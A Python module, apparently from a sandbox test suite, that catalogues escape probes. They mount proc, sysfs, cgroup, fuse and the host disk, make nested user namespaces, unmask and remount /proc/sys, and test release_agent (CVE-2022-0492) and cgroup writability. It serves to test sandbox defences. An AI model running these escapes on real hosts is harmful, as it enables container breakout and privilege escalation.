"""Mounts: made, undone, changed, and in namespaces of the attacker's own."""

from __future__ import annotations

import ctypes
import glob
import os
import platform
import tempfile

from attacks.table import Facts, add, attack, call, holds, in_child, libc, writable

_NEWNS, _NEWCGROUP, _NEWUTS, _NEWIPC = 0x20000, 0x2000000, 0x4000000, 0x8000000
_NEWUSER, _NEWPID, _NEWNET = 0x10000000, 0x20000000, 0x40000000
_ALL = _NEWNS | _NEWCGROUP | _NEWUTS | _NEWIPC | _NEWUSER | _NEWPID | _NEWNET
_BIND, _REMOUNT, _DETACH = 4096, 32, 2


def _unshare(flags: int) -> None:
    """Be root in a user namespace of one's own."""
    uid, gid = os.geteuid(), os.getegid()
    call("unshare", flags)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(text)


def _mount(kind: str) -> str:
    place = tempfile.mkdtemp()
    options = ""
    if kind == "overlay":
        for name in ("lower", "upper", "work"):
            os.mkdir(f"{place}/{name}")
        options = f"lowerdir={place}/lower,upperdir={place}/upper,workdir={place}/work,userxattr"
    elif kind == "fuse":
        device = os.open("/dev/fuse", os.O_RDWR)
        options = f"fd={device},rootmode=40000,user_id=0,group_id=0"
    elif kind == "cgroup":
        options = "none,name=minisandbox-attack"
    call("mount", b"none", place.encode(), kind.encode(), 0, options.encode())
    return f"{kind} at {place}"


def _nested(kind: str) -> str | None:
    _unshare(_ALL)
    return in_child(lambda: _mount(kind))


_KINDS = {
    "proc": "an uncovered /proc, with kcore, keys and settings",
    "sysfs": "the host's /sys, with the devices' settings",
    "cgroup": "limits lifted, a program of the host's run by release_agent",
    "cgroup2": "limits lifted",
    "overlay": "files with attributes that the host's kernel trusts",
    "tmpfs": "memory without a limit, masks covered",
    "devpts": "terminals of others",
    "mqueue": "queues of others",
    "fuse": "files whose content the attacker makes up while the kernel reads",
    "binfmt_misc": "programs of the attacker's for other people's files",
    "debugfs": "the insides of drivers",
    "tracefs": "the kernel is traced",
    "bpf": "programs in the kernel",
    "securityfs": "settings of security modules",
}
_ROOT_ONLY = {"cgroup", "debugfs", "tracefs", "securityfs"}
_MAY_LACK = {"fuse", "binfmt_misc", "debugfs", "tracefs", "bpf", "cgroup", "securityfs"}

for _kind, _gain in _KINDS.items():
    _lack = f"kernels without {_kind}" if _kind in _MAY_LACK else ""
    add(
        f"mount_{_kind}",
        lambda facts, kind=_kind: _mount(kind),
        gain=_gain,
        by="root",
        lack=_lack,
        mounts=True,
    )
for _kind in ("proc", "sysfs", "cgroup2", "overlay", "tmpfs", "mqueue"):
    add(
        f"mount_{_kind}_in_nested_namespaces",
        lambda facts, kind=_kind: _nested(kind),
        gain=f"the same where the attacker is root: {_KINDS[_kind]}",
        lack="hosts that let no user make namespaces",
    )


@attack(by="root", mounts=True)
def bind_of_a_directory(facts: Facts) -> str | None:
    """Directories are put in places of others: a set-uid program reads another /etc."""
    call("mount", tempfile.mkdtemp().encode(), tempfile.mkdtemp().encode(), None, _BIND, None)
    return "bound"


@attack(by="root", lack="hosts whose root is no disk", mounts=True)
def mount_of_the_disk(facts: Facts) -> str | None:
    """The host's disk is mounted once more."""
    place = tempfile.mkdtemp()
    for kind in (b"ext4", b"xfs", b"btrfs"):
        try:
            # Mounted already, so that this is the same file system at another place.
            call("mount", (facts.disk or "none").encode(), place.encode(), kind, 0, None)
        except OSError as error:
            if error.errno != 22:  # EINVAL: another kind of file system
                raise
            continue
        return holds(f"{place}{facts.secret}", facts.host.token) or "mounted"
    return None


@attack(by="root", mounts=True)
def new_mount_interface(facts: Facts) -> str | None:
    """The same through fsopen, which older filters do not know."""
    return f"descriptor {call('fsopen', b'tmpfs', 0)}"


@attack(by="root", mounts=True)
def open_tree_clone(facts: Facts) -> str | None:
    """A copy of the mounts below a directory, to uncover what lies under them."""
    clone, at_fdcwd = 1, -100
    return f"descriptor {call('open_tree', at_fdcwd, b'/usr', clone)}"


@attack(by="root", mounts=True)
def unmount_masks(facts: Facts) -> str | None:
    """What covers /proc is taken away."""
    with open("/proc/self/mountinfo", encoding="utf-8") as table:
        places = [line.split()[4] for line in table]
    covered = [place for place in places if place.startswith("/proc/")]
    if not covered:  # as on a host: cover something first
        covered = ["/proc/version"]
        call("mount", b"/dev/null", b"/proc/version", None, _BIND, None)
    refusal: OSError | None = None
    for place in covered:
        try:
            call("umount2", place.encode(), _DETACH)
            return place
        except OSError as error:
            refusal = error
    if refusal is not None:
        raise refusal
    return None


@attack(lack="hosts that let no user make namespaces")
def bind_in_nested_namespaces(facts: Facts) -> str | None:
    """Directories are put in places of others, as root of a user namespace of one's own."""

    def bind() -> str | None:
        place = tempfile.mkdtemp()
        call("mount", b"/proc", place.encode(), None, _BIND | 16384, None)
        return place

    _unshare(_NEWUSER | _NEWNS)
    return in_child(bind)


@attack(by="root", mounts=True)
def remount_masks_writable(facts: Facts) -> str | None:
    """/proc/sys is made writable again."""
    if not os.path.ismount("/proc/sys"):
        call("mount", b"/proc/sys", b"/proc/sys", None, _BIND, None)
    call("mount", None, b"/proc/sys", None, _REMOUNT | _BIND, None)
    return writable("/proc/sys/kernel/panic")


@attack(lack="hosts that let no user make namespaces")
def nested_user_namespace(facts: Facts) -> str | None:
    """All capabilities in a namespace of one's own, and with them much of the kernel."""
    _unshare(_NEWUSER)
    return "root again"


@attack(lack="hosts that let no user make namespaces")
def nested_network_namespace(facts: Facts) -> str | None:
    """The same for packet filters and traffic control, where many holes were."""
    _unshare(_NEWUSER | _NEWNET)
    return "an administrator of networks"


@attack(lack="hosts that let no user make namespaces")
def nested_namespace_by_clone(facts: Facts) -> str | None:
    """The same by another system call."""
    sigchld, code = 17, 7
    clone = 220 if platform.machine() == "aarch64" else 56  # the library's takes a function
    pid = libc.syscall(clone, _NEWUSER | sigchld, 0, 0, 0, 0)
    if pid == 0:
        os._exit(code)
    if pid < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return "root again" if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == code else None


@attack(by="root")
def mount_namespace_of_its_own(facts: Facts) -> str | None:
    """Mounts are changed where nobody sees it."""
    call("unshare", _NEWNS)
    return "unshared"


@attack(by="root", lack="hosts with cgroup v2 alone")
def release_agent(facts: Facts) -> str | None:
    """A program of the host's is run when a control group empties (CVE-2022-0492)."""
    return _first_writable("/sys/fs/cgroup/*/release_agent")


@attack(by="root", lack="hosts with cgroup v2 alone")
def device_rules(facts: Facts) -> str | None:
    """All devices are allowed again."""
    return _first_writable("/sys/fs/cgroup/devices/devices.allow")


@attack(by="root")
def escape_from_control_groups(facts: Facts) -> str | None:
    """A process is moved out of its limits."""
    return _first_writable("/sys/fs/cgroup/*/cgroup.procs", "/sys/fs/cgroup/cgroup.procs")


def _first_writable(*patterns: str) -> str | None:
    refusal: OSError | None = None
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                return writable(path)
            except OSError as error:
                refusal = error
    if refusal is not None:
        raise refusal
    return None
